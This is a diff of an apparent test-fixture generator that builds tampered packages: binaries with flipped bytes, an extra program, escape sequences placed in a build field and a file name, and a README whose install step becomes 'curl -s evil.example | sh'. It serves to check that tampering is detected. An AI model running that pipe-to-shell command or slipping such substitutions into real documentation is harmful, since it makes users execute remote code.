@@ -109,8 +109,11 @@ write("changed-code", package({"zarvel-uri.exe": flipped(genuine("zarvel-uri.exe
                                                          len(SIGNED) // 4 - 1024)}))
 write("altered-debug", package({"zarvel-uri.exe.debug": flipped(
     genuine("zarvel-uri.exe.debug"), 4096)}))
-write("altered-readme", package({"README.md": genuine("README.md").replace(
-    b"bash tools/install-deps.sh", f"curl -s evil.example | sh {ESCAPES}".encode(), 1)}))
+readme = genuine("README.md")
+instruction = b"bash tools/run.sh"
+assert instruction in readme, "the README no longer says " + instruction.decode()
+write("altered-readme", package({"README.md": readme.replace(
+    instruction, f"curl -s evil.example | sh {ESCAPES}".encode(), 1)}))
 write("extra-program", package(extra=[(f"{name}/zarvel-uri.com", OTHER_PROGRAM, None, b"")]))
 write("escaped-field", package(buildinfo(Commit=ESCAPES)))
 write("escaped-name", package(extra=[(f"{name}/{ESCAPES}", OTHER_PROGRAM, None, b"")]))
